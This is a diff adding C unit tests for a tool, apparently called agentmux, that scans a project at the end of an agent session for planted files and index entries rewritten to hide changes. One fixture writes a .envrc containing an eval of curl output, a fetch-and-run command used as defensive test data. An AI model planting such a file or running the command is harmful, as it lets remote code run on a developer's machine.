@@ -34,6 +34,8 @@ struct obs {
 	int done;
 	int marked;              /* alerts that name a skip-worktree mark */
 	int untr;                /* warnings that an untracked cache hides nothing */
+	int alerts;              /* alerts told */
+	int alerts_exited;       /* of them, told before exited */
 };
 
 static void
@@ -66,6 +68,7 @@ obs_exited(void *arg, struct session *s, int status)
 
 	o->exited++;
 	o->status = status;
+	o->alerts_exited = o->alerts;
 	obs_free_at(o, s, FREE_EXITED);
 }
 
@@ -83,6 +86,8 @@ obs_notice(void *arg, struct session *s, const char *level, const char *msg)
 {
 	struct obs *o = arg;
 
+	if (strcmp(level, "alert") == 0)
+		o->alerts++;
 	if (strcmp(level, "alert") == 0 && strstr(msg, "skip-worktree") !=
 	    NULL)
 		o->marked++;
@@ -897,6 +902,133 @@ test_history_walk_off_loop(void **state)
 	fixture_close(&f);
 }
 
+/* The end's plant scan calls it with each entry it looks at (snap-plant.c). */
+extern void (*snap_plant_entry_walked)(const char *rel);
+
+static atomic_int scan_slowed;
+
+/* Slows the end's walk of the project by 2 s at the entry "slow", once. */
+static void
+scan_slow(const char *rel)
+{
+	struct timespec ts = { 2, 0 };
+
+	if (strcmp(rel, "slow") != 0 || atomic_exchange(&scan_slowed, 1) != 0)
+		return;
+	while (nanosleep(&ts, &ts) == -1 && errno == EINTR)
+		;
+}
+
+/*
+ * The end's walks of the whole project (the plant scan, the run dirs'
+ * look) run on a helper thread (slowed to 2 s here) while a timer is
+ * served: they used to hold the loop for a turn (0.7-1 s on a 10,000-file
+ * repository under load). What they find is told as before, before the
+ * exit: the .envrc the command made.
+ */
+static void
+test_end_scan_off_loop(void **state)
+{
+	struct fixture f;
+	struct obs o = { 0 };
+	struct ticker tk = { 0 };
+	struct timeval every = { 0, 20000 };
+	struct session *s;
+
+	fixture_open(&f);
+	test_sh_ok("mkdir slow");
+	atomic_store(&scan_slowed, 0);
+	snap_plant_entry_walked = scan_slow;
+	tk.ev = event_new(f.base, -1, EV_PERSIST, ticker_cb, &tk);
+	assert_non_null(tk.ev);
+	assert_int_equal(event_add(tk.ev, &every), 0);
+	s = start(&f, &o, "while [ ! -e go ]; do sleep 0.05; done; "
+	    "echo 'eval \"$(curl x)\"' >.envrc; exit 4");
+	loop_until(&f, &o.started);
+	assert_true(o.ok);
+	test_sh_ok("touch go");
+	tk.measure = true;
+	tk.last_us = util_mono_us();
+	loop_until(&f, &o.done);
+	print_message("end scan: %d ticks, the longest gap %lld ms, %d "
+	    "alerts (%d before exited)\n", tk.ticks,
+	    (long long)tk.worst_us / 1000, o.alerts, o.alerts_exited);
+	assert_int_equal(o.status, 4);
+	assert_int_equal(atomic_load(&scan_slowed), 1);
+	assert_true(tk.ticks > 10);
+	assert_true(tk.worst_us < 1000000);
+	/* The new .envrc was told, before the exit. */
+	assert_true(o.alerts_exited > 0);
+	snap_plant_entry_walked = NULL;
+	event_free(tk.ev);
+	session_free(s);
+	while (snap_session_orphans() > 0)
+		assert_int_equal(event_base_loop(f.base, EVLOOP_ONCE), 0);
+	fixture_close(&f);
+}
+
+/* The end's look for rewritten index entries calls it with each repository's dir (snap-stale.c). */
+extern void (*snap_stale_dir_looked)(const char *dir);
+
+static atomic_int stale_slowed;
+
+/* Slows the end's look at the index entries by 2 s, once. */
+static void
+stale_slow(const char *dir)
+{
+	struct timespec ts = { 2, 0 };
+
+	(void)dir;
+	if (atomic_exchange(&stale_slowed, 1) != 0)
+		return;
+	while (nanosleep(&ts, &ts) == -1 && errno == EINTR)
+		;
+}
+
+/*
+ * The end's look for index entries rewritten to hide a change lstats
+ * every changed entry of the project: on a helper thread (slowed to 2 s
+ * here) while a timer is served, and done still waits for it.
+ */
+static void
+test_end_stale_off_loop(void **state)
+{
+	struct fixture f;
+	struct obs o = { 0 };
+	struct ticker tk = { 0 };
+	struct timeval every = { 0, 20000 };
+	struct session *s;
+
+	fixture_open(&f);
+	test_sh_ok("git add -A && git -c user.email=a@b -c user.name=a "
+	    "commit -qm a");
+	atomic_store(&stale_slowed, 0);
+	snap_stale_dir_looked = stale_slow;
+	tk.ev = event_new(f.base, -1, EV_PERSIST, ticker_cb, &tk);
+	assert_non_null(tk.ev);
+	assert_int_equal(event_add(tk.ev, &every), 0);
+	s = start(&f, &o, "while [ ! -e go ]; do sleep 0.05; done; "
+	    "echo changed >0/1; exit 4");
+	loop_until(&f, &o.started);
+	assert_true(o.ok);
+	test_sh_ok("touch go");
+	tk.measure = true;
+	tk.last_us = util_mono_us();
+	loop_until(&f, &o.done);
+	print_message("end's index look: %d ticks, the longest gap %lld ms\n",
+	    tk.ticks, (long long)tk.worst_us / 1000);
+	assert_int_equal(o.status, 4);
+	assert_int_equal(atomic_load(&stale_slowed), 1);
+	assert_true(tk.ticks > 10);
+	assert_true(tk.worst_us < 1000000);
+	snap_stale_dir_looked = NULL;
+	event_free(tk.ev);
+	session_free(s);
+	while (snap_session_orphans() > 0)
+		assert_int_equal(event_base_loop(f.base, EVLOOP_ONCE), 0);
+	fixture_close(&f);
+}
+
 /*
  * Snapshots from before own repositories (in the project's .git, under
  * refs/agentmux, as agentmux once made them) come into the own repository
@@ -1288,6 +1420,10 @@ main(void)
 		cmocka_unit_test_setup_teardown(test_shared_check_atomic,
 		    test_proj_setup, test_proj_teardown),
 		cmocka_unit_test_setup_teardown(test_history_walk_off_loop,
+		    test_proj_setup, test_proj_teardown),
+		cmocka_unit_test_setup_teardown(test_end_scan_off_loop,
+		    test_proj_setup, test_proj_teardown),
+		cmocka_unit_test_setup_teardown(test_end_stale_off_loop,
 		    test_proj_setup, test_proj_teardown),
 	};
 
